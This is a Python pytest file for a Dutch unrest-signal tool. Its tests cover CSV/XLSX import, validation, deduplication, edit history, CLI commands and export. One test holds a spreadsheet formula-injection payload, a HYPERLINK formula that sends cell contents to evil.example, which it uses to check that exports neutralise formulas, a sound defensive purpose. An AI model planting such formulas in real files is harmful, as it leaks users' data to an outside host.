"""Signal import, storage with history, and the `onrust signal` commands, on real DuckDB files."""

from __future__ import annotations

import json
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path

import duckdb
import pytest
from openpyxl import Workbook

from app.cli import main
from collectors.signal_import import import_signals, read_table
from collectors.signals import validate_signal
from onrust.paths import DATA_DIR
from onrust.store import Store
from onrust.store.signals import DuplicateSignal, SignalConflict

NOW = datetime(2025, 11, 15, 10, 0, tzinfo=UTC)
HEADER = ("kind;source_type;reliability;credibility;verification;severity;municipality;neighbourhood;"
          "occurred_at;reported_at;incident;text;entered_by")
# The template's headers since they are Dutch; files with the English HEADER above still import.
DUTCH = ("Soort;Brontype;Betrouwbaarheid bron;Geloofwaardigheid informatie;Verificatie;Ernst;Gemeente;Wijk;"
         "Gebeurd op;Gemeld op;Incident;Tekst;Ingevoerd door")
EXAMPLE_REFUSED = ("voorbeeldrij uit het sjabloon (Voorbeeld: VOORBEELD): vervang de voorbeeldwaarden door "
                   "een echt signaal en maak de kolom Voorbeeld leeg, of verwijder de rij")
ROWS = [
    "gerucht;sociale media;C;3;onbevestigd;3;Den Bosch;Centrum;14-11-2025 21:30;14-11-2025 22:05;;"
    "Gerucht over brandstichting in buurtapp;wijkteam",
    "melding;politie;B;2;;4;den haag;;14 november 2025 20.00;2025-11-14T20:45;;"
    "Melding van samenscholing bij het buurthuis;",
    "aangifte;inwoner;X;3;;3;Enschede;;31-02-2025 10:00;14-11-2025 22:00;;Aangifte van bedreiging;",
    "berichtgeving;media;A;1;bevestigd;2;Enschede;;gisteren 21:00;14-11-2025 22:00;;Lokale omroep meldt de brand;",
    "",
    "gerucht;sociale media;C;3;onbevestigd;5;Den Bosch;Centrum;14-11-2025 21:30;14-11-2025 22:05;;"
    "Gerucht  over brandstichting in BUURTAPP;anderen",
]


def write_csv(path: Path, lines: list[str], *, encoding: str = "utf-8-sig") -> Path:
    path.write_text("\n".join(lines) + "\n", encoding=encoding)
    return path


def test_valid_rows_go_in_bad_rows_are_reported_and_reimport_adds_nothing(store, tmp_path):
    path = write_csv(tmp_path / "signalen.csv", [HEADER, *ROWS])
    report = import_signals(store, path, incident_id=None, entered_by="analist", now=NOW)
    assert [(r.row, r.status, r.reasons) for r in report.rows] == [
        (2, "ok", ()),
        (3, "ok", ()),
        (4, "error", (
            "Betrouwbaarheid bron: 'X' is geen betrouwbaarheid; "
            "kies A (volledig betrouwbaar) t/m F (betrouwbaarheid onbekend)",
            "Gebeurd op: '31-02-2025 10:00' is geen bestaande datum (dag-maand-jaar)",
        )),
        (5, "error", (
            "Gebeurd op: 'gisteren 21:00' is een relatieve datum; gebruik in een importbestand een "
            "vaste datum zoals 14-11-2026 21:30, 14 november 2026 21.30 of 2026-11-14T21:30",
        )),
        (7, "duplicate", ("zelfde signaal als rij 2 in dit bestand",)),
    ]
    assert report.summary() == "signalen.csv: 2 toegevoegd, 1 dubbel, 2 met fouten (overgeslagen)"
    stored = store.signals()
    assert stored[["municipality", "entered_by", "verification"]].values.tolist() == [
        ["'s-Gravenhage", "analist", "onbevestigd"],
        ["'s-Hertogenbosch", "wijkteam", "onbevestigd"],
    ]

    again = import_signals(store, path, incident_id=None, entered_by="analist", now=NOW)
    assert [(r.row, r.status) for r in again.rows] == [
        (2, "duplicate"), (3, "duplicate"), (4, "error"), (5, "error"), (7, "duplicate")]
    assert again.rows[0].reasons == (f"staat al in de database als signaal #{report.rows[0].signal_id}",)
    assert store.scalar("select count(*) from signals") == 2


def test_xlsx_with_dutch_headers_and_date_cells(store, tmp_path):
    book = Workbook()
    sheet = book.active
    sheet.append(["Soort", "Brontype", "Betrouwbaarheid", "Geloofwaardigheid", "Ernst", "Gemeente",
                  "Wijk", "Gebeurd op", "Gemeld op", "Tekst", "Opmerking"])
    sheet.append(["Melding", "School", "B", 2, 3, "Enschede", "Deppenbroek",
                  datetime(2025, 11, 14, 8, 30), datetime(2025, 11, 14, 9, 0), "Ouders ongerust", "x"])
    sheet.append([None] * 11)
    sheet.append(["gerucht", "inwoner", "F", 6, 2, "Enschede", None, 45975, "14-11-2025 10:00", "Tekst", None])
    book.save(tmp_path / "signalen.xlsx")
    report = import_signals(store, tmp_path / "signalen.xlsx", incident_id=None, entered_by="analist", now=NOW)
    assert report.warnings == ("Kolom 'Opmerking' is onbekend en wordt genegeerd.",)
    assert [(r.row, r.status, r.reasons) for r in report.rows] == [
        (2, "ok", ()),
        (4, "error", ("Gebeurd op: 45975 is een getal, geen datum; geef de cel in Excel een datumopmaak",)),
    ]
    row = store.signal(report.rows[0].signal_id)
    assert (row["kind"], row["occurred_at"], row["neighbourhood"]) == (
        "melding", datetime(2025, 11, 14, 7, 30, tzinfo=UTC), "Deppenbroek")


def test_windows_csv_with_commas(store, tmp_path):
    path = write_csv(tmp_path / "excel.csv", [
        "kind,source_type,reliability,credibility,severity,municipality,occurred_at,reported_at,text",
        'gerucht,sleutelfiguur,B,3,3,Súdwest-Fryslân,14-11-2025 21:30,14-11-2025 21:40,"Zorg, onrust en geruchten"',
    ], encoding="cp1252")
    assert read_table(path)[0]["municipality"] == "Súdwest-Fryslân"
    report = import_signals(store, path, incident_id=None, entered_by="analist", now=NOW, backfill=True)
    assert [r.status for r in report.rows] == ["ok"]
    row = store.signal(report.rows[0].signal_id)
    assert (row["text"], row["entered_at"]) == ("Zorg, onrust en geruchten", datetime(2025, 11, 14, 20, 40, tzinfo=UTC))
    assert store.signals(as_of=datetime(2025, 11, 14, 20, 39, tzinfo=UTC)).empty
    assert len(store.signals(as_of=datetime(2025, 11, 14, 20, 40, tzinfo=UTC))) == 1


def test_the_untouched_template_imports_nothing_and_says_why(store):
    """Its example row is recognisable (Voorbeeld: VOORBEELD) and refused, with the reason."""
    report = import_signals(store, DATA_DIR / "signals_template.csv", incident_id=None,
                            entered_by="analist", now=datetime(2026, 12, 1, tzinfo=UTC))
    assert (report.problems, report.warnings) == ((), ())  # every column of the template is known
    assert [(r.row, r.status, r.reasons) for r in report.rows] == [(2, "error", (EXAMPLE_REFUSED,))]
    assert store.scalar("select count(*) from signals") == 0
    assert read_table(DATA_DIR / "signals_template.csv")[0].keys() == {*DUTCH.split(";"), "Voorbeeld"}


def test_a_filled_in_template_row_imports(store, tmp_path):
    """The user's own rows (the marker left empty) import; an example copied with its text
    changed but its VOORBEELD kept is still refused, so nobody imports half an example."""
    template = (DATA_DIR / "signals_template.csv").read_text(encoding="utf-8-sig").splitlines()
    header, example = template[0], template[1]
    own = example.replace("14-11-2026", "14-11-2025").replace("VOORBEELD – ", "").removesuffix("VOORBEELD")
    copied = example.replace("In een buurtapp", "In een andere buurtapp").replace("VOORBEELD – ", "")
    path = write_csv(tmp_path / "ingevuld.csv", [header, own, copied])
    report = import_signals(store, path, incident_id=None, entered_by="analist", now=NOW)
    assert [(r.row, r.status, r.reasons) for r in report.rows] == [
        (2, "ok", ()), (3, "error", (EXAMPLE_REFUSED,))]
    assert store.signal(report.rows[0].signal_id)["text"].startswith("In een buurtapp gaat het gerucht rond")


def test_an_example_is_recognised_by_its_text_too(store, tmp_path):
    """Without the marker column (pasted into another sheet) the text still says VOORBEELD."""
    example = ROWS[0].replace(";Gerucht over", ";VOORBEELD – Gerucht over")
    path = write_csv(tmp_path / "s.csv", [HEADER, example])
    report = import_signals(store, path, incident_id=None, entered_by="analist", now=NOW)
    assert [(r.status, r.reasons) for r in report.rows] == [("error", (
        "voorbeeldrij uit het sjabloon (de tekst begint met VOORBEELD): vervang de voorbeeldwaarden door een "
        "echt signaal, of verwijder de rij",))]


@pytest.mark.parametrize("content, problem", [
    (b"kind;text\ngerucht;iets\n", "Verplichte kolommen ontbreken: Brontype (source_type), Betrouwbaarheid bron "
     "(reliability), Ernst (severity), Gemeente (municipality), Gebeurd op (occurred_at), Gemeld op "
     "(reported_at). Gebruik de kopregel van data/signals_template.csv."),
    (b"", "signalen.csv is leeg"),
    (b"PK\x03\x04kapot", "signalen.csv is geen leesbaar Excel-bestand (XLSX): File is not a zip file"),
    (HEADER.encode() + b"\n", "Het bestand heeft geen rijen onder de kopregel."),
])
def test_unusable_file_imports_nothing(store, tmp_path, content, problem):
    path = tmp_path / "signalen.csv"
    path.write_bytes(content)
    report = import_signals(store, path, incident_id=None, entered_by="analist", now=NOW)
    assert (report.problems, report.rows) == ((problem,), ())
    assert store.scalar("select count(*) from signals") == 0


def test_incident_rows_accept_its_fictional_municipality(store, tmp_path):
    own = store.create_incident("Brand Veldwijk", "Veldwijk", NOW)
    other = store.create_incident("Ander", "Enschede", NOW)
    path = write_csv(tmp_path / "s.csv", [
        HEADER,
        "gerucht;inwoner;C;3;;3;veldwijk;;14-11-2025 21:30;14-11-2025 22:05;;Gerucht A;",
        f"gerucht;inwoner;C;3;;3;Enschede;;14-11-2025 21:30;14-11-2025 22:05;{other};Gerucht B;",
    ])
    report = import_signals(store, path, incident_id=own, entered_by="analist", now=NOW)
    assert [(r.status, r.reasons) for r in report.rows] == [
        ("ok", ()),
        ("error", (f"Incident: de rij noemt incident {other}, de import is voor incident #{own}",)),
    ]
    assert store.signal(report.rows[0].signal_id)["municipality"] == "Veldwijk"
    unassigned = write_csv(tmp_path / "los.csv", [DUTCH, (
        "gerucht;sociale media;C;3;onbevestigd;3;Den Bosch;Centrum;14-11-2025 21:30;14-11-2025 22:05;;"
        "In een buurtapp gaat het gerucht rond;wijkteam Centrum")])
    import_signals(store, unassigned, incident_id=None, entered_by="a", now=NOW)
    assert store.signals(incident_id=own)["text"].tolist() == ["Gerucht A"]
    assert store.signals(incident_id=own, with_unassigned=True)["text"].str[:12].tolist() == [
        "Gerucht A", "In een buurt"]
    assert import_signals(store, path, incident_id=99, entered_by="a", now=NOW).problems == (
        "Incident #99 bestaat niet.",)


def test_crash_mid_batch_stores_nothing_of_the_batch(store):
    first = validate_signal({"kind": "gerucht", "source_type": "inwoner", "reliability": "C",
                             "credibility": 3, "severity": 3, "municipality": "Enschede",
                             "occurred_at": "14-11-2025 21:30", "reported_at": "14-11-2025 21:40",
                             "text": "eerste", "entered_by": "a"}, now=NOW)
    store.add_signal(first)
    good = replace(first, text="tweede")
    broken = replace(first, text="derde", severity=9)  # bypasses validation: the database refuses it
    with pytest.raises(duckdb.Error):
        store.add_signals([good, broken])
    assert store.signals()["text"].tolist() == ["eerste"]
    assert [is_new for _, is_new in store.add_signals([good])] == [True]
    assert store.signals()["text"].tolist() == ["eerste", "tweede"]


def test_duplicate_entry_and_edit_history(store):
    raw = {"kind": "gerucht", "source_type": "inwoner", "reliability": "C", "credibility": 3,
           "severity": 3, "municipality": "Enschede", "occurred_at": "14-11-2025 21:30",
           "reported_at": "14-11-2025 21:40", "text": "Gerucht", "entered_by": "a"}
    signal = validate_signal(raw, now=NOW)
    signal_id = store.add_signal(signal)
    with pytest.raises(DuplicateSignal, match=f"signaal #{signal_id}"):
        store.add_signal(validate_signal({**raw, "entered_by": "b"}, now=NOW))
    loaded = store.signal(signal_id)
    edited = replace(signal, verification="ontkracht", severity=1)
    assert store.update_signal(signal_id, edited, changed_by="b", expected=loaded,
                               changed_at=NOW) == ["verification", "severity"]
    assert store.update_signal(signal_id, edited, changed_by="b") == []
    with pytest.raises(SignalConflict, match="intussen door iemand anders gewijzigd \\(verification, severity\\)"):
        store.update_signal(signal_id, replace(signal, text="Anders"), changed_by="c", expected=loaded)
    history = store.signal_history(signal_id)
    assert history[["changed_by", "field", "old", "new"]].values.tolist() == [
        ["b", "verification", "onbevestigd", "ontkracht"], ["b", "severity", "3", "1"]]
    row = store.signal(signal_id)
    assert (row["verification"], row["severity"], row["entered_by"], row["import_key"]) == (
        "ontkracht", 1, "a", signal.key)
    assert store.signals(verification=("ontkracht",))["revisions"].tolist() == [2]
    assert store.signals(min_severity=2).empty


def test_cli_add_import_list_edit(db_path, tmp_path, capsys):
    db = ["--db", str(db_path)]
    assert main(["signal", "add", *db, "--kind", "roddel", "--occurred", "31-02-2025"]) == 2
    err = capsys.readouterr().err
    assert "Soort: 'roddel' is geen soort signaal" in err
    assert "Gebeurd op: '31-02-2025' is geen bestaande datum (dag-maand-jaar)" in err
    args = ["signal", "add", *db, "--kind", "melding", "--source-type", "politie", "--reliability", "B2",
            "--severity", "4", "--municipality", "Den Haag", "--occurred", "gisteren 20:00",
            "--text", "Melding van samenscholing", "--by", "analist", "--json"]
    assert main(args) == 0
    assert json.loads(capsys.readouterr().out)["id"] == 1
    assert main(args) == 2
    assert "staat al in de database (signaal #1)" in capsys.readouterr().err

    path = write_csv(tmp_path / "s.csv", [HEADER, *ROWS])
    assert main(["signal", "import", str(path), *db, "--by", "analist", "--json"]) == 1
    first = json.loads(capsys.readouterr().out)
    assert (first["added"], first["duplicates"], first["errors"]) == (2, 1, 2)
    assert main(["signal", "import", str(path), *db]) == 1
    out = capsys.readouterr().out
    assert out.startswith("s.csv: 0 toegevoegd, 3 dubbel, 2 met fouten (overgeslagen)\n")
    assert "rij 4: fout\n    - Betrouwbaarheid bron: 'X' is geen betrouwbaarheid" in out

    assert main(["signal", "edit", "1", *db, "--verification", "bevestigd", "--by", "lead"]) == 0
    assert capsys.readouterr().out.strip() == "Signaal #1 gewijzigd: Verificatie"
    assert main(["signal", "edit", "2", *db, "--text", "Gerucht over brandstichting (gecorrigeerd)",
                 "--by", "lead"]) == 0
    capsys.readouterr()
    assert main(["signal", "import", str(path), *db]) == 1  # an edited signal is not re-added
    assert capsys.readouterr().out.startswith("s.csv: 0 toegevoegd, 3 dubbel, 2 met fouten")
    assert main(["signal", "list", *db, "--json"]) == 0
    listed = json.loads(capsys.readouterr().out)
    assert [(s["id"], s["verification"], s["revisions"]) for s in listed] == [
        (3, "onbevestigd", 0), (2, "onbevestigd", 1), (1, "bevestigd", 1)]
    assert main(["signal", "history", "1", *db]) == 0
    assert "lead: Verificatie 'onbevestigd' -> 'bevestigd'" in capsys.readouterr().out
    assert main(["signal", "import", str(tmp_path / "weg.csv"), *db]) == 2
    assert main(["signal", "template", str(tmp_path / "sjabloon.xlsx")]) == 0
    assert main(["signal", "template", str(tmp_path / "sjabloon.xlsx")]) == 2
    assert "bestaat al" in capsys.readouterr().err
    assert read_table(tmp_path / "sjabloon.xlsx")[0]["Soort"] == "gerucht"  # Dutch headers


def test_failed_save_reports_and_stores_nothing_then_retry_works(db_path, tmp_path):
    from onrust.store import Store

    with Store.open(db_path) as writable:
        writable.migrate()
    path = write_csv(tmp_path / "s.csv", [HEADER, *ROWS[:3]])
    with Store.open(db_path, read_only=True) as read_only:  # every write fails inside the batch
        report = import_signals(read_only, path, incident_id=None, entered_by="a", now=NOW)
    assert report.problems[0].startswith("Opslaan mislukt, er is niets uit dit bestand opgeslagen (")
    assert [(r.row, r.status, r.reasons[0]) for r in report.rows] == [
        (2, "error", "niet opgeslagen: opslaan mislukt"),
        (3, "error", "niet opgeslagen: opslaan mislukt"),
        (4, "error", "Betrouwbaarheid bron: 'X' is geen betrouwbaarheid; kies A (volledig betrouwbaar) "
                     "t/m F (betrouwbaarheid onbekend)"),
    ]
    with Store.open(db_path) as writable:
        assert writable.scalar("select count(*) from signals") == 0
        retry = import_signals(writable, path, incident_id=None, entered_by="a", now=NOW)
        assert [r.status for r in retry.rows] == ["ok", "ok", "error"]


def test_row_with_a_delimiter_too_many_is_refused_not_shifted(store, tmp_path):
    path = write_csv(tmp_path / "s.csv", [
        "kind;source_type;reliability;credibility;severity;municipality;occurred_at;reported_at;text",
        "gerucht;inwoner;C;3;3;Enschede;14-11-2025 21:30;14-11-2025 21:40;Brand; bewoners boos",
    ])
    report = import_signals(store, path, incident_id=None, entered_by="a", now=NOW)
    assert [(r.status, r.reasons) for r in report.rows] == [("error", (
        "de rij heeft meer cellen dan de kopregel kolommen heeft (een scheidingsteken te veel?)",))]


def test_export_is_an_import_file_that_round_trips(store, tmp_path):
    from collectors.signal_import import export_csv

    import_signals(store, write_csv(tmp_path / "s.csv", [HEADER, *ROWS]), incident_id=None,
                   entered_by="analist", now=NOW)
    frame = store.signals()
    records = frame.astype(object).where(frame.notna(), None).to_dict("records")
    data = export_csv(records)
    lines = data.decode("utf-8-sig").splitlines()
    assert lines[0] == DUTCH  # the template's columns
    assert lines[1] == ("melding;politie;B;2;onbevestigd;4;'s-Gravenhage;;14-11-2025 20:00;"
                        "14-11-2025 20:45;;Melding van samenscholing bij het buurthuis;analist")
    (tmp_path / "export.csv").write_bytes(data)
    again = import_signals(store, tmp_path / "export.csv", incident_id=None, entered_by="x", now=NOW)
    assert [r.status for r in again.rows] == ["duplicate", "duplicate"]


FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Klik hier")'


def test_export_neutralises_formulas_and_import_restores_the_text(store, tmp_path):
    import csv

    from collectors.signal_import import export_csv

    with (tmp_path / "s.csv").open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh, delimiter=";")
        writer.writerow(HEADER.split(";"))
        writer.writerow([*ROWS[0].split(";")[:11], FORMULA, "@wijkteam"])
    import_signals(store, tmp_path / "s.csv", incident_id=None, entered_by="analist", now=NOW)
    frame = store.signals()
    assert frame[["text", "entered_by"]].values.tolist() == [[FORMULA, "@wijkteam"]]
    data = export_csv(frame.astype(object).where(frame.notna(), None).to_dict("records"))
    line = data.decode("utf-8-sig").splitlines()[1]
    assert line.endswith(""";"'=HYPERLINK(""https://evil.example/?d=""&A1,""Klik hier"")";'@wijkteam""")
    (tmp_path / "export.csv").write_bytes(data)
    with Store.open(tmp_path / "elders.duckdb") as elsewhere:
        elsewhere.migrate()
        import_signals(elsewhere, tmp_path / "export.csv", incident_id=None, entered_by="x", now=NOW)
        assert elsewhere.signals()[["text", "entered_by"]].values.tolist() == [[FORMULA, "@wijkteam"]]


def test_an_export_saved_as_xlsx_in_excel_imports_the_original_text(store, tmp_path):
    """Excel shows the neutralising quote of a CSV cell as text; saved as XLSX it is still there."""
    book = Workbook()
    book.active.append(HEADER.split(";"))
    book.active.append([*ROWS[0].split(";")[:11], "'" + FORMULA, "'-wijkteam"])
    book.save(tmp_path / "uit-excel.xlsx")
    import_signals(store, tmp_path / "uit-excel.xlsx", incident_id=None, entered_by="x", now=NOW)
    assert store.signals()[["text", "entered_by"]].values.tolist() == [[FORMULA, "-wijkteam"]]


def test_size_limits_refuse_the_whole_file(store, tmp_path):
    from dataclasses import replace

    from onrust.settings import SignalSettings, load_settings

    path = write_csv(tmp_path / "s.csv", [HEADER, *ROWS[:2]])
    shipped = load_settings()
    few_rows = replace(shipped, signals=SignalSettings(max_import_bytes=10_000, max_import_rows=1))
    few_bytes = replace(shipped, signals=SignalSettings(max_import_bytes=100, max_import_rows=10))
    assert import_signals(store, path, incident_id=None, entered_by="a", now=NOW,
                          settings=few_rows).problems == ("Meer dan 1 rijen; splits het bestand.",)
    assert import_signals(store, path, incident_id=None, entered_by="a", now=NOW,
                          settings=few_bytes).problems == (
        "Het bestand is 0,4 kB; de grens is 0,1 kB. Splits het bestand.",)
    assert store.scalar("select count(*) from signals") == 0


def test_excel_template_has_drop_downs_and_refuses_its_example(store):
    import io

    from openpyxl import load_workbook

    from collectors.signal_import import import_signal_bytes, template_xlsx

    data = template_xlsx()
    book = load_workbook(io.BytesIO(data))
    sheet = book["signalen"]
    assert [c.value for c in sheet[1]] == [*DUTCH.split(";"), "Voorbeeld"]
    assert sheet["N2"].value == "VOORBEELD" and sheet["L2"].value.startswith("VOORBEELD – In een buurtapp")
    lists = {str(v.sqref): v.formula1 for v in sheet.data_validations.dataValidation}
    assert lists["A2:A501"] == '"gerucht,melding,aangifte,berichtgeving"'
    assert lists["C2:C501"] == '"A,B,C,D,E,F"'
    assert lists["F2:F501"] == '"1,2,3,4,5"'
    assert ["Betrouwbaarheid bron", "F", "betrouwbaarheid onbekend"] in [
        [c.value for c in row] for row in book["toelichting"].iter_rows()]
    report = import_signal_bytes(store, data, "sjabloon.xlsx", incident_id=None, entered_by="a",
                                 now=datetime(2026, 12, 1, tzinfo=UTC))
    assert [(r.row, r.status, r.reasons) for r in report.rows] == [(2, "error", (EXAMPLE_REFUSED,))]
    assert store.scalar("select count(*) from signals") == 0
    sheet["N2"] = None  # the analist turns the example into a real signal
    sheet["L2"] = "In een buurtapp gaat het gerucht rond dat de brand opzettelijk is gesticht."
    filled = io.BytesIO()
    book.save(filled)
    report = import_signal_bytes(store, filled.getvalue(), "sjabloon.xlsx", incident_id=None, entered_by="a",
                                 now=datetime(2026, 12, 1, tzinfo=UTC))
    assert [(r.row, r.status) for r in report.rows] == [(2, "ok")]
    assert store.signal(report.rows[0].signal_id)["occurred_at"] == datetime(2026, 11, 14, 20, 30, tzinfo=UTC)
